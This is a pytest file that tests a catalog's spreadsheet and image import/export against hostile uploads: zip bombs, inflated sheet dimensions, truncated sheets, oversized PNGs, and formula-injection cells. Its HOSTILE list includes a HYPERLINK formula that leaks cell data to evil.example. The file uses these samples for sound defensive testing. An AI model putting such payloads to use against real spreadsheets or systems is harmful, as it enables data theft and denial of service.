"""Spreadsheets and images as an attacker sends them: declared sizes that would take
gigabytes, rows past the limit, formulas in cells we write back out, and images whose
decoding would exhaust memory."""

import csv
import io
import json
import os
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from catalog.tabular import (
    TableError,
    TableProblem,
    csv_bytes,
    read_table,
    safe_cell,
    xlsx_bytes,
)

COLUMNS = {"sku": ("sku",), "name": ("name", "tên")}
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A2,"xem")', "+1+2", "-2+3", "@SUM(1)", "\tx"]


def xlsx(rows) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_declared_dimension(content: bytes, dimension: str) -> bytes:
    """The same workbook, its sheet claiming to span `dimension` (as a crafted file does)."""
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                text = data.decode()
                head, _, rest = text.partition("<sheetData")
                data = (head + f'<dimension ref="{dimension}"/><sheetData' + rest).encode()
            out.writestr(item, data)
    return target.getvalue()


def test_a_declared_sheet_of_16384_columns_is_read_as_its_real_cells():
    content = with_declared_dimension(
        xlsx([["sku", "name"], *([f"A-{n}", "Gạo"] for n in range(2000))]), "A1:XFD2001"
    )
    tracemalloc.start()
    rows = read_table(content, "bomb.xlsx", COLUMNS, ["sku"], max_rows=2000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert rows[0] == {"row": 2, "sku": "A-0", "name": "Gạo"} and len(rows) == 2000
    print(f"peak {peak / 1e6:.1f} MB")
    assert peak < 50e6  # padded to the declared width it was 500 MB


def test_rows_past_the_limit_stop_the_reading():
    # Row 25,000 on is damaged: a reader that went past the limit would meet it. The
    # sheet declares its size, as Excel and LibreOffice write it (openpyxl scans a whole
    # sheet that does not, within MAX_XLSX_EXPANDED).
    rows = [["sku", "name"], *([f"S-{n}", "x"] for n in range(30_000))]
    content = with_declared_dimension(xlsx(rows), "A1:B30001")
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data[: data.index(b'<row r="25000"')] + b"<row r="
            out.writestr(item, data)
    with pytest.raises(TableError) as refused:
        read_table(target.getvalue(), "many.xlsx", COLUMNS, ["sku"], max_rows=2000)
    assert refused.value.problem is TableProblem.TOO_MANY_ROWS
    assert refused.value.params == {"count": "2000+", "maximum": 2000}
    with pytest.raises(TableError) as damaged:
        read_table(target.getvalue(), "many.xlsx", COLUMNS, ["sku"], max_rows=30_000)
    assert damaged.value.problem is TableProblem.UNREADABLE


def test_a_zip_bomb_workbook_is_refused_unread():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("xl/worksheets/sheet1.xml", b"<a>" + b" " * (80 * 1024 * 1024) + b"</a>")
    assert len(buffer.getvalue()) < 200_000
    with pytest.raises(TableError) as refused:
        read_table(buffer.getvalue(), "bomb.xlsx", COLUMNS, ["sku"], max_rows=10)
    assert refused.value.problem is TableProblem.UNREADABLE


def test_a_damaged_sheet_part_is_unreadable_not_a_crash():
    content = xlsx([["sku", "name"], ["A-1", "x"]])
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) - 40]  # cut inside the rows
            out.writestr(item, data)
    with pytest.raises(TableError) as refused:
        read_table(target.getvalue(), "cut.xlsx", COLUMNS, ["sku"], max_rows=10)
    assert refused.value.problem is TableProblem.UNREADABLE


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_would_run_as_formulas_are_quoted(value):
    text = csv_bytes(["sku", "name"], [["A-1", value], ["A-2", -5]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + value
    assert rows[2][1] == "-5"  # a number stays a number
    # and our own import reads the text back as it was typed
    back = read_table(text.encode(), "back.csv", COLUMNS, ["sku"], max_rows=10)
    assert back[0]["name"] == value


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_cells_that_look_like_formulas_are_stored_as_text(value):
    content = xlsx_bytes(["sku", "name"], [["A-1", value]], "t")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == value
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in part


def test_safe_cell_leaves_plain_text_and_numbers_alone():
    assert [safe_cell(v) for v in ("Gạo nếp", 12, -3, None, "a=b")] == [
        "Gạo nếp",
        12,
        -3,
        None,
        "a=b",
    ]


IMAGE_SCRIPT = """
import io, json, os, resource, sys, threading
import django
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "marketplace.settings")
django.setup()
from PIL import Image
from catalog.services.images import clean_copy

png = io.BytesIO()
Image.new("RGBA", (6400, 6250), (10, 120, 40, 255)).save(png, "PNG")  # 40 megapixels
data = png.getvalue()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
sizes = []
work = lambda: sizes.append(clean_copy(data)[0].size)
threads = [threading.Thread(target=work) for _ in range(4)]
for thread in threads: thread.start()
for thread in threads: thread.join()
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"bytes": len(data), "grew_mb": (after - before) / 1024, "sizes": sizes}))
"""


def test_four_concurrent_40_megapixel_pngs_stay_within_bounded_memory():
    root = Path(__file__).resolve().parents[2]
    result = subprocess.run(
        [sys.executable, "-c", IMAGE_SCRIPT],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=300,
        # A database address that is never dialled: the child decodes images only, and
        # must not start or stop the test session's embedded server.
        env={
            **os.environ,
            "OCOP_MODE": "test",
            "IMAGE_WORKERS": "2",
            "DATABASE_URL": "postgresql://unused@127.0.0.1:9/unused",
        },
    )
    assert result.returncode == 0, result.stderr[-2000:]
    figures = json.loads(result.stdout.strip().splitlines()[-1])
    print("4 × 40 MP PNG:", figures)
    assert figures["bytes"] < 1_000_000
    assert figures["sizes"] == [[2400, 2344]] * 4  # reduced to the stored size
    # Two at a time, 160 MB each while decoded, plus the reduced copies: was 2.7 GB.
    assert figures["grew_mb"] < 700
